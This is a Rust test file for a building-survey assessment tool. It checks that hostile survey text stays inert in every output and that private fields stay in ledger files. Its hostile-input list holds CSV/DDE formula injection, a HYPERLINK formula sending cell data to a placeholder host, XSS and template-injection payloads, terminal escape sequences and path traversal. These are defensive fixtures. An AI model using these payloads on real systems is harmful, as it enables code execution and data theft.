//! Whatever stands in a survey, it does nothing in any output: no formula, no markup, no code for a terminal.
//!
//! A hostile survey and a harmless one of the same shape are assessed, and every file of the run is gone over by its
//! kind ([`checks`]); what is not text of the survey has to be the same in both. An output of a kind that is not known
//! here fails the test: whoever adds one says how it is to be checked.

mod checks;

use super::{liftfit, status, stderr, stdout};
use checks::{Folder, check};
use std::fs;
use std::path::Path;

/// Said in a private field and in a column carried through: for the ledger alone.
const SECRET: &str = "只在台账里的话";
/// Where the secret may stand: the ledger, what mends the survey, and what the run is read back from.
const LEDGER: [&str; 6] =
    ["units.csv", "units.xlsx", "units.parquet", "findings.csv", "corrections.xlsx", "rejected.csv"];

const HEADERS: [&str; 16] = [
    "居民区",
    "小区",
    "路名弄号",
    "楼号",
    "单元号",
    "经度",
    "纬度",
    "房型",
    "层数",
    "结构形式",
    "梯段净宽",
    "管线",
    "踏勘人",
    "反对原因",
    "踏勘日期",
    "已有电梯",
];

fn hostile() -> Vec<String> {
    let texts = [
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "＝1+1",
        "\t=1+1",
        " =HYPERLINK(\"http://x.invalid/?\"&A1,\"看\")",
        "<script>alert(1)</script>",
        "</script><img src=x onerror=alert(1)>",
        "</style></title></textarea><svg onload=alert(1)>",
        "]]><!--",
        "--><b onclick=alert(1)>",
        "\"onmouseover=\"alert(1)\" x=\"",
        "'onfocus='alert(1)' autofocus='",
        "javascript:alert(1)",
        "http://x.invalid/",
        "{{7*7}}${7*7}[% 7*7 %]",
        "&lt;script&gt;&#60;script&#62;",
        "\u{1b}[31m红",
        "\u{1b}]0;题目\u{7}",
        "\u{1b}[2J\u{9b}2J\u{8}\u{7f}",
        "反\u{202e}过来",
        "零\u{0}=1+1",
        "一\n=2+2\r\n三",
        "_x003D_1+1",
        "\u{2028}=1\u{2029}\u{206a}甲\u{206f}",
        "../../etc/passwd",
        "CON",
    ];
    let mut texts: Vec<String> = texts.map(String::from).into();
    texts.push(format!("={}", "长".repeat(40_000)));
    texts.push(format!("<i>{}", "<b x=1>".repeat(6_000)));
    texts
}

/// As many texts that mean as little and do nothing.
fn harmless() -> Vec<String> {
    (0..hostile().len()).map(|n| format!("某某{n}")).collect()
}

/// Rows: for each text, a unit that has it wherever there is a text, and one that has it everywhere but in its name.
fn rows(texts: &[String]) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    for (n, text) in texts.iter().enumerate() {
        let unit = (n + 1).to_string();
        for (building, choice) in [(text.as_str(), "老公房"), ("7", text.as_str())] {
            let named = building == text;
            let group = if named { text } else { "第一居民区" };
            let estate = if named { text } else { "甲小区" };
            let mut row: Vec<&str> = vec![group, estate, text, building, &unit, "121.47", "31.23", choice, "6", choice];
            row.extend([if named { "1.05" } else { text }, text, text, SECRET, text, "无"]);
            row.extend([text.as_str(), SECRET]);
            rows.push(row.into_iter().map(String::from).collect());
        }
    }
    rows
}

/// The survey: a text file and a workbook, with carried columns whose headers are texts too.
fn write_survey(folder: &Path, texts: &[String]) {
    let name = |ending: &str, at: usize| {
        // What a file may be called: anything but these.
        let name: String = texts[at].chars().filter(|c| !matches!(c, '/' | '\0')).take(40).collect();
        if cfg!(windows) { format!("调查{at}.{ending}") } else { format!("{name}.{ending}") }
    };
    let headers = |text: &str| -> Vec<String> {
        HEADERS.iter().map(|header| header.to_string()).chain([text.to_string(), "备注栏".to_string()]).collect()
    };
    fs::create_dir_all(folder.join("调查")).unwrap();
    for (file, at) in [(0, 7), (1, 19), (2, 23), (3, 0)] {
        let mut out = csv::Writer::from_path(folder.join("调查").join(name("csv", at))).unwrap();
        out.write_record(headers(&texts[at])).unwrap();
        // A text file with a zero byte is none, and is not read.
        let texts: Vec<String> = texts.iter().map(|text| text.replace('\0', "")).collect();
        let rows = rows(&texts);
        rows.iter().skip(file).step_by(5).for_each(|row| out.write_record(row).unwrap());
        out.flush().unwrap();
    }
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let sheet_name: String = texts[12].chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
    sheet.set_name(sheet_name.trim_matches('\'')).unwrap();
    let all = rows(texts);
    let rows = all.iter().skip(4).step_by(5);
    for (r, row) in std::iter::once(&headers(&texts[8])).chain(rows).enumerate() {
        for (c, text) in row.iter().enumerate() {
            // A cell holds no more.
            let text: String = text.chars().take(32_000).collect();
            sheet.write_string(r as u32, c as u16, &text).unwrap();
        }
    }
    book.save(folder.join("调查").join(name("xlsx", 8))).unwrap();
}

/// The folder of the run, and all that was said.
fn assessed(folder: &Path, texts: &[String], lang: &str) -> (Folder, String) {
    write_survey(folder, texts);
    let args = ["assess", "调查", "--rules", "shanghai", "--out", "结果", "--as-of", "2026-03-01", "--lang", lang];
    let output = liftfit(folder, &args);
    assert!(matches!(status(&output), 0 | 3), "{}", stderr(&output));
    let said = stdout(&output) + &stderr(&output);
    (Folder::read(&folder.join("结果")), said)
}

#[test]
fn nothing_of_a_survey_does_anything_in_any_output() {
    for lang in ["zh", "en"] {
        let dirs = [(); 2].map(|()| tempfile::tempdir().unwrap());
        let (hostile_run, said) = assessed(dirs[0].path(), &hostile(), lang);
        let (harmless_run, _) = assessed(dirs[1].path(), &harmless(), lang);
        check(&hostile_run, &harmless_run);
        inert(&said);
        // Most of the units are there to be looked at, and every row is accounted for.
        let run: serde_json::Value = serde_json::from_slice(hostile_run.bytes("run.json")).unwrap();
        assert!(run["counts"]["units"].as_u64().unwrap() > 40, "{}", run["counts"]);
        let map: serde_json::Value = serde_json::from_slice(hostile_run.bytes("map.geojson")).unwrap();
        assert_eq!(map["features"].as_array().unwrap().len() as u64, run["counts"]["units"].as_u64().unwrap());
    }
}

#[test]
fn what_is_private_or_carried_through_stays_in_the_ledger() {
    let dir = tempfile::tempdir().unwrap();
    let (run, said) = assessed(dir.path(), &harmless(), "zh");
    assert!(!said.contains(SECRET), "{said}");
    let (mut open, mut ledger) = (Vec::new(), Vec::new());
    for name in run.names() {
        let found = run.texts(name).any(|text| text.contains(SECRET));
        let of_ledger = LEDGER.contains(&name) || name.starts_with("units/") && name.ends_with(".xlsx");
        if found && !of_ledger && name != "run/readings.parquet" {
            open.push(name);
        } else if found {
            ledger.push(name);
        }
    }
    assert!(open.is_empty(), "told to everybody: {open:?}");
    assert!(ledger.contains(&"units.csv"), "the test would see it: {ledger:?}");
}

#[test]
fn a_unit_of_hostile_texts_is_explained_harmlessly() {
    let dir = tempfile::tempdir().unwrap();
    assessed(dir.path(), &hostile(), "zh");
    for unit in ["甲小区/7/8", "甲小区/7/20", "甲小区/7/22", "甲小区/7/24", "无此"] {
        let output = liftfit(dir.path(), &["explain", unit, "--run", "结果"]);
        assert_eq!(status(&output), i32::from(unit == "无此"), "{unit}: {}", stderr(&output));
        inert(&(stdout(&output) + &stderr(&output)));
    }
}

/// Nothing in it drives a terminal.
fn inert(shown: &str) {
    let turns = |c: char| matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let bad = shown.find(|c: char| c.is_control() && c != '\n' || turns(c));
    assert!(bad.is_none(), "{:?}", bad.map(|at| shown[at..].chars().take(80).collect::<String>()));
}
